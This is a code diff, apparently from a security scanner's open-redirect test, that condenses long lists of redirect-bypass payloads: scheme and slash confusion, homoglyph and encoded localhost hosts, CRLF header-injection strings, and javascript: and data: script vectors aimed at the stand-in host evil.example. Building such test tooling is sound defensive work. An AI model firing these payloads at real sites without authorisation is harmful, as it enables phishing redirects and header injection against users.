@@ -8,156 +8,33 @@ const EVIL = 'evil.example'
 /** Everything that has ever been sent to the wrong place by a comparison of texts. */
 function listTargets(app: string): string[] {
   const { host, hostname, port } = new URL(app)
-  const schemes = [
-    'http:',
-    'https:',
-    'HTTP:',
-    'ftp:',
-    'ws:',
-    'file:',
-    'javascript:',
-    'data:',
-    'blob:',
-    'about:',
-    'view-source:',
-    'vbscript:',
-    '',
-  ]
-  const slashes = [
-    '//',
-    '/',
-    '\\\\',
-    '/\\',
-    '\\/',
-    '///',
-    '////',
-    '/\t/',
-    '/\n/',
-    '',
-    '%2f%2f',
-    '/%2f',
-    '/%5c',
-    '／／',
-    '/.//',
-    '/..//',
-  ]
+  const words = (text: string) => text.trim().split(/ +|\n */)
+  const schemes = words('http: https: HTTP: ftp: ws: file: javascript: data: blob: about: view-source: vbscript:')
+  const slashes = [...words(String.raw`// / \\ /\ \/ /// //// %2f%2f /%2f /%5c ／／ /.// /..//`), '/\t/', '/\n/', '']
   const hosts = [
-    ...[
-      EVIL,
-      `${host}.${EVIL}`,
-      `${EVIL}/${host}`,
-      `${EVIL}?${host}`,
-      `${EVIL}#${host}`,
-      `${EVIL}\\${host}`,
-      `${host}@${EVIL}`,
-    ],
-    ...[
-      `${EVIL}@${host}`,
-      `user:password@${host}`,
-      `@${host}`,
-      `${host}%40${EVIL}`,
-      `${host}%2e${EVIL}`,
-      `${hostname}.`,
-      `${hostname}.:${port}`,
-    ],
-    ...[
-      `evil${host}`,
-      `${hostname}evil:${port}`,
-      `${hostname}:${port}0`,
-      `${hostname}:0${port}`,
-      `${hostname}:`,
-      hostname,
-      `${hostname}:80`,
-      `${hostname}:443`,
-    ],
-    ...[
-      `${hostname}\u3002${EVIL}`,
-      `${hostname}\uff0e${EVIL}`,
-      `${hostname}\uff61${EVIL}:${port}`,
-      `loc\u0430lhost:${port}`,
-      `\u24db\u24de\u24d2\u24d0\u24db\u24d7\u24de\u24e2\u24e3:${port}`,
-    ],
-    ...[
-      `127.0.0.1:${port}`,
-      `0x7f000001:${port}`,
-      `2130706433:${port}`,
-      `127.1:${port}`,
-      `[::1]:${port}`,
-      `[::ffff:127.0.0.1]:${port}`,
-      `[::1]@${host}`,
-      `0:${port}`,
-    ],
-    ...[
-      `${host}\t.${EVIL}`,
-      `${host}\n.${EVIL}`,
-      `${host}\r\n.${EVIL}`,
-      `${host}\0.${EVIL}`,
-      `${host} .${EVIL}`,
-      `${host};${EVIL}`,
-      `${host},${EVIL}`,
-      `${host}&@${EVIL}`,
-    ],
+    ...words(`${EVIL} ${host}.${EVIL} ${EVIL}/${host} ${EVIL}?${host} ${EVIL}#${host} ${EVIL}\\${host} ${host}@${EVIL}
+      ${EVIL}@${host} user:password@${host} @${host} ${host}%40${EVIL} ${host}%2e${EVIL} ${hostname}. ${hostname}.:${port}
+      evil${host} ${hostname}evil:${port} ${hostname}:${port}0 ${hostname}:0${port} ${hostname}: ${hostname}
+      ${hostname}:80 ${hostname}:443 ${hostname}\u3002${EVIL} ${hostname}\uff0e${EVIL} ${hostname}\uff61${EVIL}:${port}
+      loc\u0430lhost:${port} \u24db\u24de\u24d2\u24d0\u24db\u24d7\u24de\u24e2\u24e3:${port} 127.0.0.1:${port}
+      0x7f000001:${port} 2130706433:${port} 127.1:${port} [::1]:${port} [::ffff:127.0.0.1]:${port} [::1]@${host}
+      0:${port} ${host};${EVIL} ${host},${EVIL} ${host}&@${EVIL}`),
+    ...['\t', '\n', '\r\n', '\0', ' '].map((odd) => `${host}${odd}.${EVIL}`),
   ]
-  const built = schemes.flatMap((scheme) =>
+  const built = [...schemes, ''].flatMap((scheme) =>
     slashes.flatMap((slash) => [EVIL, host].map((each) => `${scheme}${slash}${each}/`)),
   )
   const tricky = hosts.flatMap((each) => [`http://${each}`, `http://${each}/path`, `https://${each}/`, `//${each}`])
+  const odd = ['\r\nSet-Cookie: a=b', `\u2028http://${EVIL}`, 'a'.repeat(1500), 'a'.repeat(3000)]
   return [
-    ...built,
-    ...tricky,
-    ...[
-      app,
-      `${app}/`,
-      `${app}/a/b?c=d#e`,
-      `${app}/../..//${EVIL}`,
-      `${app}//${EVIL}`,
-      `${app}/\\${EVIL}`,
-      `${app}/%0d%0aLocation:%20http://${EVIL}`,
-    ],
-    ...[
-      `${app}/\r\nSet-Cookie: a=b`,
-      `${app}/\u2028http://${EVIL}`,
-      ` ${app}/`,
-      `\t${app}/`,
-      `\u0000${app}/`,
-      `\ufeff${app}/`,
-      `${app}/?next=http://${EVIL}`,
-    ],
-    ...[
-      `java\tscript:alert(1)//${host}`,
-      `java\nscript://${host}/%0aalert(1)`,
-      `javascript://${host}/%0aalert(1)`,
-      `data:text/html,<script>location='//${EVIL}'</script>`,
-    ],
-    ...[
-      `data:;base64,//${host}`,
-      `blob:${app}/b9a1`,
-      `filesystem:${app}/t/x`,
-      `ht\ttp://${host}/`,
-      `h\nttp://${EVIL}/`,
-      `http:${host}`,
-      `http:/${host}`,
-      `http:\\\\${host}`,
-      `http:///${host}`,
-    ],
-    ...[
-      '',
-      '/',
-      '.',
-      '..',
-      '#',
-      '?',
-      '\\',
-      'null',
-      'undefined',
-      'http://',
-      'https:',
-      'http://[',
-      'http://%',
-      'a'.repeat(3000),
-      `${app}/${'a'.repeat(3000)}`,
-      `${app}/${'a'.repeat(1500)}`,
-    ],
+    ...[...built, ...tricky, ...odd.map((end) => `${app}/${end}`)],
+    ...[' ', '\t', '\u0000', '\ufeff'].map((start) => `${start}${app}/`),
+    ...words(`${app} ${app}/ ${app}/a/b?c=d#e ${app}/../..//${EVIL} ${app}//${EVIL} ${app}/\\${EVIL}
+      ${app}/%0d%0aLocation:%20http://${EVIL} ${app}/?next=http://${EVIL} javascript://${host}/%0aalert(1)
+      data:text/html,<script>location='//${EVIL}'</script> data:;base64,//${host} blob:${app}/b9a1 filesystem:${app}/t/x
+      http:${host} http:/${host} http:\\\\${host} http:///${host} / . .. # ? \\ null undefined http:// https: http://[ http://%`),
+    ...[`java\tscript:alert(1)//${host}`, `java\nscript://${host}/%0aalert(1)`, `ht\ttp://${host}/`],
+    ...[`h\nttp://${EVIL}/`, '', 'a'.repeat(3000)],
   ]
 }
 
@@ -222,22 +99,9 @@ export async function openRedirect({ target, size, random, say }: AttackContext)
           faults.push(`${name}=${text} at the callback: lands on ${landing}`)
       }
     }
-    for (const path of [
-      `//${EVIL}/%2f..`,
-      `/%2f%2f${EVIL}`,
-      `/docs//${EVIL}`,
-      `/.${EVIL}`,
-      `//${EVIL}`,
-      `/%5c${EVIL}`,
-      `/?//${EVIL}`,
-      `/;@${EVIL}`,
-      `/auth//${EVIL}`,
-      `/proof//${EVIL}`,
-      `/proof/%2f%2f${EVIL}`,
-      `/proof/@${EVIL}`,
-      `/proof/..%2f@${EVIL}`,
-      `/proof/AAAAAAAAAAAAAAAAAAAAAA?next=//${EVIL}`,
-    ]) {
+    const paths = `//${EVIL}/%2f.. /%2f%2f${EVIL} /docs//${EVIL} /.${EVIL} //${EVIL} /%5c${EVIL} /?//${EVIL} /;@${EVIL} /auth//${EVIL}
+      /proof//${EVIL} /proof/%2f%2f${EVIL} /proof/@${EVIL} /proof/..%2f@${EVIL} /proof/AAAAAAAAAAAAAAAAAAAAAA?next=//${EVIL}`
+    for (const path of paths.split(/\s+/)) {
       for (const accept of [[], PAGE]) {
         tried += 1
         const { status, headers } = await caller.call({ path, headers: accept })
@@ -252,7 +116,6 @@ export async function openRedirect({ target, size, random, say }: AttackContext)
     caller.close()
   }
   return {
-    name: 'open redirect',
     tried,
     figures: {
       'addresses at the start': chosen.length,
